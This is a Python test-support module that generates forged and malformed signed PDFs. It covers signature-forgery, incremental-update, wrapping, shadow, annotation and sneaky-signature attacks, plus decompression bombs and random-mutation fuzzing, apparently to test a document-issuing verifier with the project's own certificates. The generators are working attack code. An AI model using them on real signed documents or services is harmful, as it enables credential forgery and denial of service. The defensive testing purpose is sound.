"""The published families of attacks on signed PDFs, rebuilt on our own certificates; and bombs, and random damage.

Families: universal forgery (the signature object is spoilt so that a careless reader skips it), incremental saving
(something is appended), wrapping (signed bytes are moved aside), shadows (prepared content is hidden, replaced, or
switched), attacks on certified documents (evil annotation, sneaky signature). Each generator yields a name and a file.
What is done to archive timestamps is in :mod:`tests.issuance.stamp_attacks`.
"""

from __future__ import annotations

import asyncio
import io
import random
import re
import zlib
from collections.abc import Callable, Iterator
from functools import lru_cache

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigFieldSpec, SigSeedSubFilter
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigIOSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import SignatureObject

from app.issuance.keys import KeyPlace

Named = tuple[str, bytes]
Writer = IncrementalPdfFileWriter
_RANGE = re.compile(rb"/ByteRange ?\[ ?(\d+) (\d+) (\d+) (\d+) ?\]( *)")


class Silent(IncrementalPdfFileWriter):
    """An attacker leaves no trace in the file's title and dates."""

    def _update_meta(self) -> None:
        pass


def families(pdf: bytes) -> Iterator[Named]:
    """Every attack that needs nothing but one issued file."""
    for family in (universal_forgery, incremental_saving, wrapping, shadows, evil_annotation):
        for name, file in family(pdf):
            yield f"{family.__name__}: {name}", file


# ------------------------------------------------------------------ universal signature forgery
def universal_forgery(pdf: bytes, *, last: bool = False) -> Iterator[Named]:
    """On the first signature of the file, or on its last."""
    found = _range_of(pdf, last=last)
    first, second = int(found[2]), int(found[3])
    gap = slice(first, second)  # <hex>
    digits = second - first - 2
    yield "contents of zeros", _put(pdf, gap, b"<" + b"0" * digits + b">")
    yield "contents empty", _put(pdf, gap, b"<>" + b" " * digits)
    yield "contents null", _put(pdf, gap, b"null".ljust(digits + 2))
    yield "contents cut short", _put(pdf, gap, b"<" + pdf[first + 1 : first + 401].ljust(digits, b"0") + b">")
    yield "contents renamed", pdf.replace(b"/Contents <", b"/Kontents <").replace(b"/Contents<", b"/Kontents<")
    whole = found.span()
    size = whole[1] - whole[0]
    for name, words in {
        "range null": b"/ByteRange null",
        "range empty": b"/ByteRange []",
        "range of nothing": b"/ByteRange [0 0 0 0]",
        "range of all": b"/ByteRange [0 %d 0 0]" % len(pdf),
        "range negative": b"/ByteRange [0 -9 0 9]",
        "range beyond the end": b"/ByteRange [0 9999999 9 9]",
        "range of one part": b"/ByteRange [0 %d]" % first,
        "range missing": b"/Bite 1",
    }.items():
        yield name, _put(pdf, slice(*whole), words[:size].ljust(size))
    yield "type of a timestamp", pdf.replace(b"/Type /Sig", b"/Type /Doc").replace(b"/Type/Sig", b"/Type/Doc")
    yield "another format", pdf.replace(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1 ")
    yield "no permissions", pdf.replace(b"/Perms", b"/Permz")
    yield "no field", pdf.replace(b"/FT /Sig", b"/FT /Btn").replace(b"/FT/Sig", b"/FT/Btn")


def _range_of(pdf: bytes, *, last: bool = False) -> re.Match[bytes]:
    return list(_RANGE.finditer(pdf))[-1 if last else 0]


def _put(pdf: bytes, where: slice, what: bytes) -> bytes:
    return pdf[: where.start] + what + pdf[where.stop :]


# ------------------------------------------------------------------ incremental saving
def incremental_saving(pdf: bytes) -> Iterator[Named]:
    yield "a newline", pdf + b"\n"
    yield "a space", pdf + b" "
    yield "a comment", pdf + b"%forged\n"
    yield "a second end", pdf + b"%%EOF\n"
    yield "an archive behind it", pdf + b"PK\x05\x06" + bytes(18)
    yield "bytes before it", b"%PDF-1.7\n" + pdf
    update = appended(pdf, _other_words)
    tail = update[len(pdf) :]
    body = tail[: tail.rfind(b"xref")] if b"\nxref" in tail else tail[: tail.rfind(b"startxref")]
    yield "other words", update
    yield "other words without a list", pdf + body
    yield "other words without an end", pdf + tail[: tail.rfind(b"startxref")]
    yield "other words, the old list", pdf + body + b"startxref\n%s\n%%%%EOF\n" % pdf.split(b"startxref")[-1].split()[0]
    yield "other words and the signature copied", pdf + _copied_signature(pdf) + tail
    yield "title rewritten", appended(pdf, _title)
    yield "a loose object", appended(pdf, lambda writer: writer.add_object(generic.pdf_string("loose")))
    yield "a script", appended(pdf, _script)
    yield "an attached file", appended(pdf, _attached)


def appended(pdf: bytes, change: Callable[[Writer], object]) -> bytes:
    writer = Silent(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: Writer) -> DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _stream(writer: Writer, words: bytes = b"BT /F1 40 Tf 80 400 Td (FORGED) Tj ET") -> object:
    return writer.add_object(StreamObject(stream_data=words))


def _other_words(writer: Writer) -> None:
    page = _page(writer)
    page["/Contents"] = _stream(writer)
    writer.update_container(page)


def _title(writer: Writer) -> None:
    writer.set_info(DictionaryObject({NameObject("/Title"): generic.pdf_string("Doctor")}))


def _script(writer: Writer) -> None:
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): generic.pdf_string("app.alert(1)")}
    writer.root["/OpenAction"] = writer.add_object(DictionaryObject(action))
    writer.update_root()


def _attached(writer: Writer) -> None:
    writer.root["/AF"] = ArrayObject([_stream(writer, b"MZ")])
    writer.update_root()


def _copied_signature(pdf: bytes) -> bytes:
    found = re.search(rb"\d+ 0 obj\s*<<[^>]{0,400}/ByteRange.{0,200000}?endobj", pdf, re.DOTALL)
    return b"\n" + (found[0] if found else b"") + b"\n"


# ------------------------------------------------------------------ wrapping
def wrapping(pdf: bytes, *, last: bool = False) -> Iterator[Named]:
    """The second signed part is moved back, and something else stands where it stood."""
    found = _range_of(pdf, last=last)
    first, second, rest = int(found[2]), int(found[3]), int(found[4])
    forged = b"\n9 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    yield "objects between the parts", pdf[:second] + forged + pdf[second:]
    moved = b"/ByteRange [0 %d %d %d]" % (first, second + len(forged), rest)
    head = pdf[: found.start()] + moved.ljust(len(found[0])) + pdf[found.end() : second]
    yield "objects between, the range moved", head + forged + pdf[second:]
    double = b"/ByteRange [0 %d %d %d]" % (first, len(pdf) + len(forged), rest)
    behind = pdf[: found.start()] + double.ljust(len(found[0])) + pdf[found.end() :]
    yield "the signed part copied to the end", behind + forged + pdf[second:]
    yield "a comment in the gap", pdf[: second - 1] + b">%" + pdf[second + 1 :]
    yield "the parts exchanged", pdf[second:] + pdf[:second]


# ------------------------------------------------------------------ what another file of the school lends
def borrowed(pdf: bytes, other: bytes) -> Iterator[Named]:
    """Genuine parts of another document issued by the same school."""
    yield "borrowed: the signature", borrowed_container(pdf, other)
    yield "borrowed: the whole file in front", other + pdf
    yield "borrowed: the whole file behind", pdf + other
    page, revision = (each.index(b"%%EOF\n") + 6 for each in (pdf, other))
    yield "borrowed: the signature's revision", pdf[:page] + other[revision:]


def borrowed_container(pdf: bytes, other: bytes, *, last: bool = False) -> bytes:
    """With the other's signature in the place of its own, as far as it has room."""
    ours, theirs = _range_of(pdf, last=last), _range_of(other, last=last)
    digits = other[int(theirs[2]) + 1 : int(theirs[3]) - 1]
    room = int(ours[3]) - int(ours[2]) - 2
    return _put(pdf, slice(int(ours[2]) + 1, int(ours[3]) - 1), digits[:room].ljust(room, b"0"))


# ------------------------------------------------------------------ shadows
def shadows(pdf: bytes) -> Iterator[Named]:
    yield "hide: another tree of pages", appended(pdf, _other_pages)
    yield "hide: the page moved behind one of theirs", appended(pdf, _page_before)
    yield "replace: the font", appended(pdf, _other_font)
    yield "replace: a field's look", appended(pdf, _field_look)
    yield "replace: resources", appended(pdf, _other_resources)
    yield "hide and replace: two objects of one number", _twice(pdf)
    yield "hide and replace: another catalog", appended(pdf, _other_catalog)


def _a_page(writer: Writer) -> DictionaryObject:
    box = ArrayObject(map(NumberObject, (0, 0, 595, 842)))
    facts = {"/Type": NameObject("/Page"), "/MediaBox": box, "/Contents": _stream(writer)}
    return DictionaryObject({NameObject(name): value for name, value in facts.items()})


def _other_pages(writer: Writer) -> None:
    page = _a_page(writer)
    place = writer.add_object(page)
    facts = {"/Type": NameObject("/Pages"), "/Kids": ArrayObject([place]), "/Count": NumberObject(1)}
    tree = writer.add_object(DictionaryObject({NameObject(name): value for name, value in facts.items()}))
    page["/Parent"] = tree
    writer.root["/Pages"] = tree
    writer.update_root()


def _page_before(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].insert(0, writer.add_object(_a_page(writer)))
    pages["/Count"] = NumberObject(2)
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)


def _other_font(writer: Writer) -> None:
    for font in _page(writer)["/Resources"]["/Font"].values():
        font.get_object()["/BaseFont"] = NameObject("/Symbol")
        writer.update_container(font.get_object())


def _other_resources(writer: Writer) -> None:
    page = _page(writer)
    page["/Resources"] = DictionaryObject({})
    writer.update_container(page)


def _field_look(writer: Writer) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    field["/AP"] = DictionaryObject({NameObject("/N"): _stream(writer)})
    field["/Rect"] = ArrayObject(map(NumberObject, (0, 0, 500, 500)))
    writer.update_container(field)


def _other_catalog(writer: Writer) -> None:
    catalog = DictionaryObject({name: value for name, value in writer.root.items() if name != "/Perms"})
    writer._root, writer._root_object = writer.add_object(catalog), catalog


def _twice(pdf: bytes) -> bytes:
    """A second list of places that names other bytes for the same numbers."""
    number = len(re.findall(rb"\d+ 0 obj", pdf))
    forged = b"4 0 obj\n<</Length 2>>\nstream\nq\n\nendstream\nendobj\n"
    place = len(pdf)
    table = b"xref\n4 1\n%010d 00000 n \n" % place
    previous = pdf.split(b"startxref")[-1].split()[0]
    trailer = b"trailer\n<</Size %d/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + forged + table + trailer % (number + 1, previous, place + len(forged))


# ------------------------------------------------------------------ attacks on certified documents
def evil_annotation(pdf: bytes) -> Iterator[Named]:
    for kind in ("/FreeText", "/Stamp", "/Redact", "/Square", "/Widget"):
        yield f"an annotation {kind}", appended(pdf, lambda writer, kind=kind: _annotate(writer, kind))


def _annotate(writer: Writer, kind: str) -> None:
    facts = {
        "/Type": NameObject("/Annot"),
        "/Subtype": NameObject(kind),
        "/Rect": ArrayObject(map(NumberObject, (50, 300, 550, 500))),
        "/Contents": generic.pdf_string("Doctor of Philosophy"),
        "/DA": generic.pdf_string("/F1 40 Tf"),
        "/F": NumberObject(4),
        "/AP": DictionaryObject({NameObject("/N"): _stream(writer)}),
    }
    annotation = writer.add_object(DictionaryObject({NameObject(name): value for name, value in facts.items()}))
    page = _page(writer)
    page["/Annots"] = ArrayObject([*page.get("/Annots", ()), annotation])
    writer.update_container(page)


def sneaky(pdf: bytes, key: KeyPlace) -> Iterator[Named]:
    """A second signature, seen over the page or not, by a program that does not ask whether it is allowed."""
    signer = signers.SimpleSigner.load_pkcs12(str(key.path), passphrase=key.passphrase.encode())
    for name, box in (("seen", (50, 300, 550, 500)), ("unseen", None)):
        spec = SigFieldSpec("Sneaky", box=box, on_page=0) if box else SigFieldSpec("Sneaky")
        steps = PdfCMSEmbedder(new_field_spec=spec).write_cms("Sneaky", Silent(io.BytesIO(pdf), strict=False))
        next(steps)
        steps.send(SigObjSetup(SignatureObject(subfilter=SigSeedSubFilter.PADES, bytes_reserved=16384)))
        digest, out = steps.send(SigIOSetup("sha256"))
        steps.send(asyncio.run(signer.async_sign(digest.document_digest, "sha256", use_pades=True)))
        yield f"sneaky: {name}", out.getvalue()


# ------------------------------------------------------------------ bombs
def bombs() -> Iterator[Named]:
    """Small files that cost a careless reader minutes or gigabytes."""
    for name in BOMBS:
        yield name, bomb(name)


@lru_cache(maxsize=32)
def bomb(name: str) -> bytes:
    return BOMBS[name]()


def xref_bomb() -> bytes:
    """A cross-reference stream of 28 million entries in 200 KB."""
    packed = zlib.compress(bytes(28_000_000 * 7), 9)
    head = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    entries = b"<</Type/XRef/Size 28000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(packed)
    xref = b"3 0 obj\n" + entries + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return head + xref + b"startxref\n%d\n%%%%EOF\n" % len(head)


def field_bomb() -> bytes:
    """Fields that are each other's children."""
    return a_file(
        [
            b"<</Type/Catalog/Pages 2 0 R/AcroForm 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>",
            b"<</Fields[4 0 R]>>",
            b"<</FT/Sig/T(a)/Kids[4 0 R 4 0 R]>>",
        ]
    )


@lru_cache(maxsize=1)
def _zeros() -> bytes:
    """Half a gigabyte of zeros, packed."""
    return zlib.compress(bytes(512 << 20), 9)


def _pages(pages: bytes) -> bytes:
    return a_file([b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]>>>>", pages])


def _with_stream(packed: bytes, filters: bytes) -> bytes:
    form = b"<</Type/Catalog/Pages 2 0 R/AcroForm 3 0 R>>"
    stream = b"<</Length %d/Filter%s>>\nstream\n" % (len(packed), filters) + packed + b"\nendstream"
    return a_file([form, b"<</Type/Pages/Kids[]/Count 0>>", b"<</Fields[4 0 R]/XFA 4 0 R>>", stream])


def _object_stream() -> bytes:
    """A catalog that lies in an object stream of half a gigabyte."""
    packed = zlib.compress(b"1 0 " + bytes(512 << 20), 9)
    head = b"%PDF-1.5\n"
    kind = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    stream = b"2 0 obj\n" + kind + packed + b"\nendstream\nendobj\n"
    entries = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + b"\0"
        for kind, place in ((0, 0), (2, 2), (1, len(head)), (1, len(head) + len(stream)))
    )
    xref = b"<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(entries)
    end = b"3 0 obj\n" + xref + entries + b"\nendstream\nendobj\n"
    return head + stream + end + b"startxref\n%d\n%%%%EOF\n" % (len(head) + len(stream))


def _long_list(count: int) -> bytes:
    head = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    table = b"xref\n0 %d\n" % count + b"0000000009 00000 n \n" * count
    return head + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, len(head))


def _own_predecessor() -> bytes:
    head = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \n"
    return head + table + b"trailer\n<</Size 2/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(head), len(head))


def a_file(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % size + table
    return out + xref + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))


BOMBS: dict[str, Callable[[], bytes]] = {
    "28 million places in 200 KB": lambda: xref_bomb(),
    "half a gigabyte of zeros in a stream": lambda: _with_stream(_zeros(), b"/FlateDecode"),
    "zeros packed twice": lambda: _with_stream(zlib.compress(_zeros(), 9), b"[/FlateDecode/FlateDecode]"),
    "an object stream of half a gigabyte": lambda: _object_stream(),
    "pages that hold each other": lambda: _pages(b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
    "100,000 pages that are one": lambda: _pages(b"<</Type/Pages/Kids[" + b"2 0 R " * 100_000 + b"]/Count 100000>>"),
    "fields that hold each other": lambda: field_bomb(),
    "brackets in brackets": lambda: _pages(b"[" * 200_000),
    "names in names": lambda: _pages(b"<</A" * 100_000),
    "a list of 240,000 places": lambda: _long_list(240_000),
    "a list that is its own predecessor": lambda: _own_predecessor(),
    "four megabytes of spaces": lambda: b"%PDF-1.7\n" + b" " * (4 << 20) + b"startxref\n9\n%%EOF\n",
    "four megabytes of noise": lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(4 << 20),
    "many starts": lambda: b"%PDF-1.7\n" + b"startxref\n9\n%%EOF\n" * 200_000,
    "many containers": lambda: b"%PDF-1.7\n" + b"/Contents <" + b"30" * 200 + b">" * 20_000,
    "many broken containers": lambda: b"%PDF-1.7\n" + (b"/Contents<" + b"3" * 390) * 12_000,
}


# ------------------------------------------------------------------ random damage
_HOT = (b"obj", b"stream", b"xref", b"trailer", b"/Size", b"/Root", b"/Prev", b"/Length", b"/ByteRange", b"/Contents")
_WORDS = (b"0", b"-1", b"99999999999", b"null", b"<<", b">>", b"[", b"]", b"R", b"endobj", b"\0", b"(", b"%", b"/A")


def mutant(chance: random.Random, pdf: bytes, others: list[bytes]) -> bytes:
    """One file with one to four kinds of damage."""
    out = bytearray(pdf)
    for _ in range(chance.randint(1, 4)):
        chance.choice((_truncate, _flip, _cut, _repeat, _word, _number, _hot, _splice, _revision))(chance, out, others)
        if len(out) < 9:
            break
    return bytes(out)


def _place(chance: random.Random, out: bytearray) -> int:
    return chance.randrange(max(1, len(out)))


def _truncate(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    del out[_place(chance, out) :]


def _revision(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    ends = [found.end() for found in re.finditer(rb"%%EOF\n?", bytes(out))]
    del out[chance.choice(ends or [len(out)]) :]


def _flip(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    for _number in range(chance.choice((1, 1, 1, 2, 8, 64))):
        if out:
            out[_place(chance, out)] ^= 1 << chance.randrange(8)


def _cut(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    at = _place(chance, out)
    del out[at : at + chance.choice((1, 2, 16, 256, 4096))]


def _repeat(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    at = _place(chance, out)
    out[at:at] = out[at : at + chance.choice((1, 16, 256, 4096))] * chance.choice((1, 2, 20))


def _word(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    at = _place(chance, out)
    out[at : at + chance.choice((0, 1, 4))] = chance.choice(_WORDS)


def _number(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    numbers = list(re.finditer(rb"\d+", bytes(out[-20_000:])))
    if numbers:
        found = chance.choice(numbers)
        shift = max(0, len(out) - 20_000)
        out[shift + found.start() : shift + found.end()] = str(chance.choice((0, 1, 7, 2**31, 2**63))).encode()


def _hot(chance: random.Random, out: bytearray, _: list[bytes]) -> None:
    places = [found.start() for word in _HOT for found in re.finditer(re.escape(word), bytes(out))]
    if places:
        at = chance.choice(places) + chance.randint(-2, 12)
        if 0 <= at < len(out):
            out[at] = chance.randrange(256)


def _splice(chance: random.Random, out: bytearray, others: list[bytes]) -> None:
    if others:
        other = chance.choice(others)
        at = _place(chance, out)
        start = chance.randrange(len(other))
        out[at : at + chance.choice((0, 64, 1024))] = other[start : start + chance.choice((64, 1024, 100_000))]


def only_container_differs(file: bytes, pdf: bytes) -> bool:
    """Every byte that any signature covers is as it was; only the last one's own container is written otherwise.

    No signature covers its own container: digits may change their case, a version number its value. The policy alone
    cannot tell; the ledger's digest of the whole file does.
    """
    found = _range_of(pdf, last=True)
    first, second = int(found[2]), int(found[3])
    return len(file) == len(pdf) and file[:first] == pdf[:first] and file[second:] == pdf[second:]
